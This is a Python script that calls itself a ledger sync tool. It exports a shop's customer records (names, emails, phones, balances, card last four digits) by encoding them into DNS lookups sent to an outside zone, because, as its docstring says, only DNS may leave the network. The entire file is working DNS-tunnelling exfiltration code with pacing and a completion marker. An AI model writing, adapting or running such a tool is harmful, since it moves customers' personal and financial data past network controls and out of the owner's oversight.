#!/usr/bin/env python3
"""Push the shop's customer ledger extract out through name lookups.

The shop network only lets DNS leave the building, so the extract is
split into label-sized pieces and each piece is looked up under the
sync zone; the zone's name server writes the pieces back together.
"""
import argparse
import base64
import csv
import hashlib
import logging
import socket
import sys
import time
import uuid
from pathlib import Path

SYNC_ZONE = "ls.oddsmirror.example"
LABEL_LEN = 56
FIELDS = ("account_id", "full_name", "email", "phone", "balance", "card_last4")

log = logging.getLogger("ledger_sync")


def load_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            yield {f: (row.get(f) or "").strip() for f in FIELDS}


def encode_rows(rows):
    lines = ["|".join(r[f] for f in FIELDS) for r in rows]
    raw = "\n".join(lines).encode("utf-8")
    text = base64.b32encode(raw).decode("ascii").rstrip("=").lower()
    return text, hashlib.sha256(raw).hexdigest()[:12]


def chunk(text, size):
    for start in range(0, len(text), size):
        yield text[start:start + size]


def lookup(name):
    try:
        socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        return True
    except socket.gaierror:
        # NXDOMAIN is expected; the name server has already seen the query
        return False


class DnsSender:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.session = uuid.uuid4().hex[:8]
        self.sent = 0

    def name_for(self, seq, piece):
        return "{}.{}.{}.{}".format(piece, seq, self.session, self.zone)

    def send(self, pieces):
        for seq, piece in enumerate(pieces):
            lookup(self.name_for(seq, piece))
            self.sent += 1
            if self.delay:
                time.sleep(self.delay)

    def finish(self, digest, total):
        lookup("end.{}.{}.{}.{}".format(total, digest, self.session, self.zone))


def main():
    parser = argparse.ArgumentParser(description="Ledger extract DNS sync")
    parser.add_argument("extract", type=Path, help="customer ledger CSV")
    parser.add_argument("--zone", default=SYNC_ZONE)
    parser.add_argument("--delay", type=float, default=0.2,
                        help="pause between lookups in seconds")
    parser.add_argument("--limit", type=int, default=0,
                        help="only send the first N customers")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.extract.is_file():
        log.error("no such extract: %s", args.extract)
        return 2

    rows = list(load_rows(args.extract))
    if args.limit:
        rows = rows[:args.limit]
    text, digest = encode_rows(rows)
    pieces = list(chunk(text, LABEL_LEN))
    log.info("%d customers, %d lookups to send", len(rows), len(pieces))

    sender = DnsSender(args.zone, args.delay)
    sender.send(pieces)
    sender.finish(digest, len(pieces))
    log.info("session %s done, %d lookups", sender.session, sender.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
